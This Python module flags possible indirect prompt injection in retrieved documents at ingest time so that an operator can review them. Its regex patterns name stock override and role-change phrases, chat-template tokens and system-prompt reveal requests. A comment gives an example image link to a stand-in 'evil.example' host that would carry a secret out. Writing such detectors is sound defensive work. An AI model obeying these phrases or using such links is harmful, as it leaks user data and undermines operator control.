"""Flag instruction-like text in documents (indirect prompt injection, OWASP LLM01) at ingest time.

Retrieved chunks are untrusted data. The real defence is structural (answer.py delimits and labels them and
never builds the system message from document text); this module adds *visibility*: chunks that look like
they address the model ("ignore previous instructions", "you are now ...", chat-template role tokens,
requests to reveal the system prompt or to exfiltrate via links) are reported in the ingest JSON
(`flagged`) so an operator can review them. Flagging does not block ingest: false positives are expected on
security documentation, so blocking would be a policy decision for the operator, not a silent default.

Patterns follow the families used by red-team suites (garak `latentinjection`, promptfoo
`indirect-prompt-injection`, `rag-document-exfiltration`).
"""

from __future__ import annotations

import re
import unicodedata

# name -> pattern. Names are what the ingest report lists (never the matched text).
PATTERNS: dict[str, re.Pattern[str]] = {
    "ignore_instructions": re.compile(
        r"\b(ignore|disregard|forget|override|bypass|skip)\b[\w\s,'-]{0,40}?\b(previous|prior|above|earlier|all|any|your|the|system)\b"
        r"[\w\s,'-]{0,30}?\b(instructions?|prompts?|rules|directions|guidelines|messages?|context)\b",
        re.I,
    ),
    "role_override": re.compile(
        r"\b(you are now|from now on,? you( are|'re| will)|act as (an? )?(unrestricted|unfiltered|jailbroken|different)|"
        r"pretend (to be|you are)|new (persona|role|instructions?)\s*:|enter (developer|dan|god) mode|\bDAN\b mode)",
        re.I,
    ),
    "system_prompt": re.compile(
        r"\b(system prompt|system message|hidden instructions?|initial instructions?|developer message)\b", re.I
    ),
    "reveal_request": re.compile(
        r"\b(reveal|print|repeat|output|show|leak|disclose|tell me)\b[\w\s,'-]{0,40}?\b(your|the)\b[\w\s,'-]{0,20}?"
        r"\b(instructions?|prompt|rules|secrets?|api keys?|password|configuration)\b",
        re.I,
    ),
    "chat_template_tokens": re.compile(
        r"<\|(im_start|im_end|system|user|assistant|endoftext|eot_id|start_header_id|end_header_id)\|>|"
        r"\[/?INST\]|<<SYS>>|<</SYS>>|<start_of_turn>|<end_of_turn>",
        re.I,
    ),
    "role_prefix": re.compile(r"(?m)^\s*#{0,3}\s*(system|assistant)\s*:\s*\S"),
    # A remote image is fetched by the browser the moment an answer is rendered: any remote Markdown or HTML image
    # is an exfiltration channel, whatever its URL says (`![logo](https://evil.example/collect?q=SECRET)`).
    "exfiltration_link": re.compile(
        r"!\[[^\]]*\]\(\s*<?\s*(https?:)?//|<img\b[^>]*\bsrc\s*=\s*[\"']?\s*(https?:)?//", re.I
    ),
    # A link that carries data out in its query string (`[docs](https://x.example/c?d=...)`), Markdown or HTML.
    "link_with_query": re.compile(
        r"\]\(\s*<?\s*(https?:)?//[^)\s]*\?[^)\s]*=|<a\b[^>]*\bhref\s*=\s*[\"']?\s*(https?:)?//[^\s\"'>]*\?[^\s\"'>]*=",
        re.I,
    ),
    "tool_or_command": re.compile(
        r"\b(call|invoke|execute|run)\b[\w\s]{0,20}\b(the )?(tool|function|shell|command)\b[^.]{0,40}\b(now|immediately)\b",
        re.I,
    ),
}


def _normalise(text: str) -> str:
    """NFKC and strip zero-width characters, so fullwidth or zero-width-split phrases are still seen."""
    text = unicodedata.normalize("NFKC", text)
    return re.sub(r"[\u200b-\u200f\u2060\ufeff]", "", text)


def flag_instructions(text: str) -> list[str]:
    """Names of the instruction-like pattern families found in `text` (sorted; empty when none)."""
    if not text:
        return []
    norm = _normalise(text)
    return sorted(name for name, rx in PATTERNS.items() if rx.search(norm))
